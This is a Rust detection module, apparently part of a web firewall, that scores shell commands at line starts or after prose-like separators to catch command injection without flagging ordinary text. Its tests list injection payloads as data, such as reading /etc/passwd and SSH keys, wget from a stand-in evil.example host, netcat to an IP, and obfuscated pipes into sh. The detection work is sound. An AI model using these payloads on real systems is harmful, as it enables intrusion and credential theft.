//! A known command where only a weak signal puts it: the weak readings of a command position.
//! Prose starts lines with words that are also commands ("Customer\nid 4711",
//! "Hola\nsed de aventura", "ps: …", "curl up with a book"), and writes `;`, `&` and `|`
//! between its words ("fish & chips; expect long queues", "Tom & Jerry | perf review"); an
//! injected line (`%0aid`, `\ncat /etc/passwd`) or command (`x; id`, `x | ps -ef`) looks the
//! same up to its arguments. So such a command is not a finding by itself: it raises signals,
//! each scored once per value, and the value is a finding when their sum reaches the level's
//! threshold, as the OWASP CRS sums anomaly scores.
//!
//! The weak positions: a line start (after a line break, nothing but blanks or `(` between),
//! and, for a command name prose writes too ([`prose_writes`]: a topic, a word, a name, a
//! two-letter abbreviation), a single `;`, `&` or `|` with a blank after it, as prose writes
//! them. Anywhere else (`;id`, `&&`, `||`, `$(`, a backtick) and for a name no prose writes
//! (`whoami`, `wget`), a command at a command position is a finding of [`super::chained`]
//! alone.
//!
//! | signal | score |
//! |---|---:|
//! | a known command at a weak position | 2 |
//! | a command line's argument: among the command's first words, to the end of a clause of prose ([`command_arguments`]), an option (`-c`, `--url`), a path (`/etc/…`, `./x`, `../x`, `~/x`) or a variable (`$x`, `${x}`); on its line a redirection (`>`, `<`), a separator or substitution (`;`, `\|`, `&`, backtick, `$(`), or a wrapper running a second command (`sudo id`, `nohup ifconfig`); or the command word spelled as only a shell reads it (`/bin/id`, `c'a't`) | 3 |
//! | the command's own shape: the command alone on its line (not a word prose writes alone: `cat`, `python`, `curl`), a number for a command that takes one (`sleep 5`, `kill 9`), or a URL for a downloader (`wget http://x/a.sh`) | 2 |
//! | the command follows a value, not prose: before it only blanks or one word, and the separator (`127.0.0.1\nid`, `\nid`, `x; id`) | 1 |
//!
//! Threshold: 5 at paranoia level 1, 4 at level 2. So one command word with prose after it
//! (2, or 3 after one word) never blocks; a command with a command line's argument (5) always
//! does; a bare command (`id`) or `sleep 5` on its own blocks at level 1 after a value or a
//! leading line break (5), and at level 2 anywhere (4).

use super::chained::names_command;
use super::command_line::PROSE_COMMAND_SET;
use super::lex::{
    command_arguments, is_option, shell_word, without_version, word_end, CommandPosition, Context,
    Separator,
};
use super::sentence;
use super::words::{is_command, COMMAND_SET, TOPIC_SET, WRAPPER_SET};
use crate::detect::words::word_list;
use crate::detect::wordset::WordSet;

/// A known command at a weak position.
pub(super) const WEAK_POSITION: u32 = 2;
/// An argument, or a spelling of the command word, that only a command line has.
pub(super) const COMMAND_LINE_ARGUMENT: u32 = 3;
/// The command alone, or with the one kind of argument it takes.
pub(super) const COMMAND_SHAPE: u32 = 2;
/// Only blanks or one word before the line: the line was appended to a value.
pub(super) const AFTER_A_VALUE: u32 = 1;

/// The score at which weakly placed commands are a finding, by paranoia level.
pub(super) fn threshold(paranoia: u8) -> u32 {
    if paranoia >= 2 {
        4
    } else {
        5
    }
}

/// How far a command line is read: a command line is short, and a value of many long lines
/// stays linear.
const LINE_REACH: usize = 256;

/// At most this many weakly placed commands are scored (each signal counts once anyway).
pub(super) const MOST_WEAK: usize = 16;

word_list! {
    /// Commands whose argument is a number: `sleep 5`, `kill 9 1`.
    NUMBER_COMMANDS = "shell-number-commands"
}

/// [`NUMBER_COMMANDS`] as a set.
static NUMBER_COMMAND_SET: WordSet = WordSet::new(&NUMBER_COMMANDS);

word_list! {
    /// Downloaders whose argument is a URL: `wget http://x/a.sh`.
    DOWNLOADERS = "shell-downloaders"
}

/// [`DOWNLOADERS`] as a set.
static DOWNLOADER_SET: WordSet = WordSet::new(&DOWNLOADERS);

/// Whether the command position (where [`names_command`] found a command) is a weak one: a
/// line start, or a prose-like separator before a name prose writes too, other than a pipe
/// into a shell or interpreter.
pub(super) fn is_weak_position(text: &str, position: &CommandPosition) -> bool {
    let rest = text.get(position.at..).unwrap_or_default();
    match position.context(text) {
        Context::LineStart => true,
        Context::ProseSeparator => {
            prose_writes(rest) && !(position.separator == Separator::Pipe && interprets(rest))
        }
        Context::Shell => false,
    }
}

word_list! {
    /// Shells and interpreters that run the program text piped into them.
    INTERPRETERS = "shell-interpreters"
}

/// [`INTERPRETERS`] as a set.
static INTERPRETER_SET: WordSet = WordSet::new(&INTERPRETERS);

/// Whether the word at the start of `rest` is a shell or interpreter: a pipe into one
/// (`| sh`, `| python`) runs what comes through it, prose or not.
fn interprets(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', '\t']);
    INTERPRETER_SET.contains(rest.get(..word_end(rest)).unwrap_or_default())
}

/// Whether the command word at the start of `rest` is, as written, a known command's name
/// prose writes too: a tool or language people write about ([`TOPIC_SET`]), a word, name or
/// setting ([`PROSE_COMMAND_SET`], [`sentence::begins_sentences`]), or two letters (`id`,
/// `ps`, `nl`, `nc`: abbreviations and initials). A word spelled for a shell (`/bin/id`,
/// `i'd'`, `$x`, `gcc7.4`) is no prose, and nor is a command read by its arguments' shape
/// (`sc query`, `cd /`).
fn prose_writes(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', '\t']);
    let word = rest.get(..word_end(rest)).unwrap_or_default();
    !spelled_for_a_shell(word)
        && COMMAND_SET.contains(word)
        && (word.len() <= 2
            || TOPIC_SET.contains(word)
            || PROSE_COMMAND_SET.contains(word)
            || sentence::begins_sentences(word))
}

word_list! {
    /// Package managers that install code: `pip install x`.
    PACKAGE_MANAGERS = "shell-package-managers"
}

/// [`PACKAGE_MANAGERS`] as a set.
static PACKAGE_MANAGER_SET: WordSet = WordSet::new(&PACKAGE_MANAGERS);

/// The anomaly score of the weakly placed commands at `starts` (the offsets of positions
/// [`is_weak_position`] accepted), ascending.
pub(super) fn score(text: &str, starts: &[usize]) -> u32 {
    let Some(&first) = starts.first() else {
        return 0;
    };
    let mut argument = false;
    let mut shape = false;
    for &start in starts.iter().take(MOST_WEAK) {
        let line = line_at(text, start);
        let end = word_end(line);
        let word = line.get(..end).unwrap_or_default();
        let args = line.get(end..).unwrap_or_default();
        argument = argument || spelled_for_a_shell(word) || command_line_argument(word, args);
        shape = shape || has_command_shape(word, args);
    }
    // Only the first can follow a value: the text before a later one holds the first.
    let before = text
        .get(..first)
        .unwrap_or_default()
        .trim_end_matches(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
        .trim();
    let after_value = !before.contains(|c: char| c.is_whitespace());
    WEAK_POSITION
        + u32::from(argument) * COMMAND_LINE_ARGUMENT
        + u32::from(shape) * COMMAND_SHAPE
        + u32::from(after_value) * AFTER_A_VALUE
}

/// The line from `start` (blanks and a `(` skipped), to its end or [`LINE_REACH`] bytes.
fn line_at(text: &str, start: usize) -> &str {
    let rest = text
        .get(start..)
        .unwrap_or_default()
        .trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '(');
    let mut cut = rest
        .find(['\n', '\r'])
        .unwrap_or(rest.len())
        .min(LINE_REACH);
    while !rest.is_char_boundary(cut) {
        cut -= 1;
    }
    rest.get(..cut).unwrap_or_default()
}

/// A command word as only a shell reads it: by a path (`/bin/id`, `./x`), or with quotes,
/// backslashes or expansions a shell removes (`c'a't`, `w\hoami`, `$u`).
fn spelled_for_a_shell(word: &str) -> bool {
    word.contains(['/', '\'', '"', '\\', '$', '`'])
}

/// An argument only a command line has (see the module's table), or a wrapper running a
/// second command.
fn command_line_argument(word: &str, args: &str) -> bool {
    if args.contains(['`', '>', '<']) || args.contains("$(") {
        return true;
    }
    // A separator ends a command line, or joins the next command (a command position of its
    // own, read by [`super`]): here it counts glued to the command word and what follows
    // (`id;x`, `ps&&`) or ending the line (`\nid;`, `ps|`). Prose's `;` goes on with a blank
    // and words ("4711; paid", "me & node; friends").
    let separators: &[char] = &[';', '|', '&'];
    let glued = args
        .strip_prefix(separators)
        .is_some_and(|after| !after.starts_with([' ', '\t']));
    if glued || args.trim_end().strip_suffix(separators).is_some() {
        return true;
    }
    let name = shell_word(word);
    if WRAPPER_SET.contains(&name) && names_command(args) {
        return true;
    }
    // A command's object comes first: a file, a host (`python x.py`, `ssh evil.com`,
    // `nc 10.0.0.1 80`, `ssh root@host`). Further on, prose names files and hosts too.
    let mut arguments = command_arguments(args);
    arguments
        .next()
        .is_some_and(|first| is_file_or_host(first) || is_argument(first))
        || arguments.any(is_argument)
}

/// An option, a path or a variable.
fn is_argument(token: &str) -> bool {
    is_option(token) || is_path(token) || is_variable(token)
}

/// A file name with an extension or a host name (`x.py`, `evil.com`: letters after the last
/// dot, and the dot not a sentence's end), an IPv4 address (with a port or a prefix length),
/// or `user@host`.
fn is_file_or_host(token: &str) -> bool {
    let word = |s: &str| {
        !s.is_empty()
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
    };
    if let Some((user, host)) = token.split_once('@') {
        return word(user) && word(host) && !host.ends_with('.');
    }
    let address = token.split([':', '/']).next().unwrap_or_default();
    let octets: Vec<&str> = address.split('.').collect();
    if octets.len() == 4
        && octets
            .iter()
            .all(|o| (1..=3).contains(&o.len()) && o.bytes().all(|b| b.is_ascii_digit()))
    {
        return true;
    }
    token.rsplit_once('.').is_some_and(|(stem, extension)| {
        word(stem)
            && !stem.starts_with('.')
            && (1..=10).contains(&extension.len())
            && extension.bytes().all(|b| b.is_ascii_lowercase())
    })
}

/// An absolute, relative or home path: `/etc/passwd`, `./x`, `../x`, `~/x`, `~`, `/`, `..`.
fn is_path(token: &str) -> bool {
    let token = token.trim_start_matches(['\'', '"']);
    let absolute = token
        .strip_prefix('/')
        .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '.'));
    absolute
        || token.starts_with("./")
        || token.starts_with("../")
        || token.starts_with("~/")
        || matches!(token, "~" | "/" | "..")
}

/// A shell variable: `$x`, `${x}` (not a price, `$5`).
fn is_variable(token: &str) -> bool {
    token.match_indices('$').any(|(i, _)| {
        token.get(i + 1..).is_some_and(|r| {
            r.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '{' | '_'))
        })
    })
}

/// The command alone (not a word prose writes alone), a number for a command that takes
/// one, BSD options for `ps`, a package manager's `install`, or a URL for a downloader.
fn has_command_shape(word: &str, args: &str) -> bool {
    let cleaned = shell_word(word);
    let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
    let name = without_version(name);
    let mut tokens = args.split_whitespace().peekable();
    if tokens.peek().is_none() {
        return is_command(name) && !TOPIC_SET.contains(name) && !PROSE_COMMAND_SET.contains(name);
    }
    if NUMBER_COMMAND_SET.contains(name) {
        return tokens.all(|t| t.bytes().all(|b| b.is_ascii_digit()));
    }
    // `ps aux`, `ps ef`: BSD-style options, letters without a dash.
    if name == "ps" {
        return tokens.next().is_some_and(|t| {
            (1..=4).contains(&t.len()) && t.bytes().all(|b| b"aefjlux".contains(&b))
        });
    }
    // `pip install x`, `gem install x`: a package manager fetching code to run.
    if PACKAGE_MANAGER_SET.contains(name) {
        return tokens
            .next()
            .is_some_and(|t| matches!(t, "install" | "uninstall" | "download"));
    }
    if DOWNLOADER_SET.contains(name) {
        return tokens.all(|t| {
            t.starts_with("http://") || t.starts_with("https://") || t.starts_with("ftp://")
        });
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::detect_with;
    use crate::decode::decode_fully;
    use crate::detect::Lowered;

    /// Whether `rce-001` flags `v` (form-decoded) at paranoia `level`.
    fn chained(v: &str, level: u8) -> bool {
        let decoded = decode_fully(v.as_bytes(), true, true);
        let found = detect_with(&Lowered::new(&decoded), level, true);
        assert_eq!(
            found,
            detect_with(&Lowered::new(&decoded), level, false),
            "{v:?}: prechecks change nothing"
        );
        found.iter().any(|r| r.id == "rce-001")
    }

    #[test]
    fn a_command_word_starting_a_line_of_prose_passes_at_both_levels() {
        for v in [
            "Customer\nid 4711",
            "Hola\nsed de aventura",
            "Thanks!\nps I will call you tomorrow",
            "Roof repair\ntar paper and shingles needed",
            "Shipping\nzip code 90210 is outside the area",
            "Onboarding\nssh keys are on the wiki",
            "Weekend plans\ncurl up with a good book",
            "Course list\npython for data analysis",
            "Infra\ndocker images are rebuilt nightly",
            "Database\nmysql is at version 8 now",
            "Customer\nid 4711; paid in full",
            "Boa noite\nlua cheia hoje",
            "Ciao\nnode di sopra e sotto",
            "Nota\nperf di oggi",
            "Hallo\ngem ist ein Wort",
            "Order 55\nsplit into two parcels",
            "Rating\nexpect delays in December",
            // Lists of tools in prose, and markdown.
            "We use:\ncurl for HTTP\ndocker for builds\npython for glue\nssh for the rest",
            "## Setup\n\n- install docker\n- ask for ssh access\n\n**ps** is fine",
            "Stack: python, docker and mysql.\nps: also curl.",
            // Addresses and chat in several languages.
            "Flat 3\n12 Main Street\nSpringfield",
            "Calle Mayor 5\n28013 Madrid\nEspaña",
            "Hauptstraße 1\n10115 Berlin",
            "Salut !\nTu viens ce soir ?",
            "Oi\npara onde vamos?",
        ] {
            for level in [1, 2] {
                assert!(!chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn an_injected_line_is_still_caught() {
        for v in [
            "\nid",
            "\ncat /etc/passwd",
            "%0a whoami",
            "\nsleep 5",
            "\nping -c 3 x",
            "127.0.0.1\nid",
            "127.0.0.1%0Awhoami",
            "x\nwget http://evil.example/x.sh",
            "Some prose here\nid;",
            "Some prose here\nid|",
            "Some prose here\n/bin/id",
            "note to self\nsudo id",
            "note to self\nps aux > /tmp/x",
            "a long note\ncat ~/.ssh/id_rsa",
            "a long note\nuname -a",
            "a long note\nls $HOME",
            "a long note\ncurl evil.example/`id`",
        ] {
            for level in [1, 2] {
                assert!(chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn a_bare_command_line_in_prose_is_a_finding_at_level_2_only() {
        for v in ["Fields:\nname\nid\nemail", "Hi there\nwhoami"] {
            assert!(!chained(v, 1), "{v:?}");
            assert!(chained(v, 2), "{v:?}");
        }
        // Words prose writes alone: not a command's shape.
        for v in ["Pets:\ncat\ndog", "Tools we like\ncurl\npython"] {
            assert!(!chained(v, 2), "{v:?}");
        }
    }

    #[test]
    fn a_command_word_after_a_separator_of_prose_passes_at_both_levels() {
        for v in [
            "fish & chips; expect long queues",
            "Silver & gem stones",
            "Sales & Marketing; split 50/50",
            "salt & tar; a recipe",
            "Tom & Jerry | perf review",
            "A&B; ps see attached",
            "Call me; id like to know more",
            "Rock & roll; dash to the store",
            "Q&A | rev 2",
            "lunch; python meetup after",
            "Pros & cons; ssh is better than telnet",
            "me & node; friends",
            "Docs | docker images are at registry.example.com",
        ] {
            for level in [1, 2] {
                assert!(!chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn a_command_line_after_a_separator_is_still_caught() {
        for v in [
            "x; id",
            "x | id",
            "x;id",
            "x && id",
            "x & ps aux",
            "127.0.0.1 | ps aux",
            "127.0.0.1; ps -ef",
            "x | nc 10.0.0.1 80",
            "foo; ssh root@host",
            "x; ssh evil.example",
            "x | ls /",
            "x; python x.py",
            "x; pip install evil",
            "x; nl /etc/passwd",
            "x; id > /tmp/x",
            // A pipe into a shell or an interpreter runs what comes through it.
            "printf dwssap/cte/ tac | rev | sh",
            "echo aWQ= | base64 -d | python and more",
            // No prose writes these names: a finding wherever a separator puts them.
            "fish & chips; whoami",
            "x & wget evil.example/x",
        ] {
            for level in [1, 2] {
                assert!(chained(v, level), "level {level}: {v:?}");
            }
        }
    }

    #[test]
    fn each_signal_scores_once_per_value() {
        use super::{score, AFTER_A_VALUE, COMMAND_LINE_ARGUMENT, COMMAND_SHAPE, WEAK_POSITION};
        assert_eq!(
            score("x\nid", &[2]),
            WEAK_POSITION + COMMAND_SHAPE + AFTER_A_VALUE
        );
        assert_eq!(
            score("a b\nid -a\nid -b", &[4, 10]),
            WEAK_POSITION + COMMAND_LINE_ARGUMENT
        );
        assert_eq!(score("a b\nsed de", &[4]), WEAK_POSITION);
        assert_eq!(score("x", &[]), 0);
    }
}
